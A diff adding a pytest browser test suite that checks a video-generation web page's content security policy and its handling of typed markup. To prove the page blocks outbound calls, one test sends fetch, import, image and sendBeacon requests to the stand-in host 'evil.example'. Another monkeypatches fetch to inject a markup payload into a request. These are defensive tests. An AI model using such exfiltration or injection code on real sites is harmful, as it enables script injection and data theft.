@@ -1,0 +1,82 @@
+"""What the page asks for in a real browser, and what it does with markup that somebody typed."""
+
+from urllib.parse import urlsplit
+
+import pytest
+
+from tests.support.hostile_requests import MARKUP, NASTY, SCRIPT
+
+pytestmark = pytest.mark.browser
+
+SEED_OF_MARKUP = """(markup) => {
+  const real = window.fetch;
+  window.fetch = (url, options, ...more) => {
+    if (!String(url).includes('queue/join')) return real(url, options, ...more);
+    const body = JSON.parse(options.body);
+    body.data[1] = markup;
+    return real(url, { ...options, body: JSON.stringify(body) }, ...more);
+  };
+}"""
+MEADOW = "a red ball stands on a green meadow"
+TYPED = [text for text in NASTY if ("<" in text or "hacked" in text or "{{" in text) and len(text) < 200]
+
+
+@pytest.mark.parametrize("query", ["", "?player=hls", "?view=api", "?view=settings"])
+def test_nothing_is_asked_of_another_host_and_nothing_that_is_needed_is_shut(visit, query) -> None:
+    viewer = visit(query)
+    if "view" not in query:
+        viewer.start(MEADOW)
+        viewer.wait("data.state === 'playing' && data.frame > 30")
+        viewer.page.click("#stop")
+        viewer.wait("data.state === 'ended'")
+        viewer.page.wait_for_selector("#take video")
+    viewer.page.wait_for_timeout(500)
+    mine = urlsplit(viewer.served.url).netloc
+    assert {urlsplit(url).netloc for url in viewer.asked if not url.startswith(("blob:", "data:"))} == {mine}
+    assert [line for line in viewer.lines if "Content Security" in line] == viewer.errors == []
+    assert [one for one in viewer.broken if one[0] >= 400] == []
+
+
+def test_what_runs_in_the_page_cannot_tell_another_host(visit) -> None:
+    viewer = visit()
+    sent = """async () => {
+      const tries = [fetch('https://evil.example/'), import('https://evil.example/a.js')];
+      const image = new Image();
+      tries.push(new Promise((done, fail) => { image.onload = done; image.onerror = fail; }));
+      image.src = 'https://evil.example/a.png';
+      navigator.sendBeacon('https://evil.example/', 'a');
+      return (await Promise.allSettled(tries)).map((one) => one.status);
+    }"""
+    assert viewer.page.evaluate(sent) == ["rejected"] * 3
+    assert sum("Content Security Policy" in line for line in viewer.lines) >= 4
+
+
+def test_markup_is_shown_and_never_run(visit) -> None:
+    viewer = visit()
+    viewer.start("a dragon")
+    for number, text in enumerate(TYPED, 1):
+        viewer.write(f"unicorn {text}")
+        viewer.page.press("#prompt textarea", "Enter")
+        viewer.wait(f"data.prompt === '{number}'")
+        for part in ("#player .caption", "#timeline", "#status"):
+            assert viewer.page.locator(f"{part} :is(img, script, a)").count() == 0
+        assert "has not learnt" in viewer.text("#status")
+    assert viewer.text("#player .caption").startswith("unicorn")
+    assert viewer.page.evaluate("window.hacked") is None and viewer.errors == []
+
+
+def test_markup_in_a_refusal_is_not_run(visit) -> None:
+    """A seed of markup comes back in the words that refuse it."""
+    viewer = visit()
+    viewer.page.evaluate(SEED_OF_MARKUP, MARKUP + SCRIPT)
+    viewer.write(MEADOW)
+    viewer.page.click("#start")
+    viewer.page.wait_for_selector("text=it must be a whole number")
+    assert viewer.page.evaluate("window.hacked") is None
+
+
+def test_the_page_may_stand_in_a_frame_of_the_hub_and_of_nobody_else(visit, served) -> None:
+    viewer = visit()
+    policy = viewer.page.request.get(served.url).headers["content-security-policy"]
+    frames = next(part for part in policy.split("; ") if part.startswith("frame-ancestors")).split()[1:]
+    assert frames == ["'self'", "https://huggingface.co", "https://*.huggingface.co", "https://*.hf.space"]
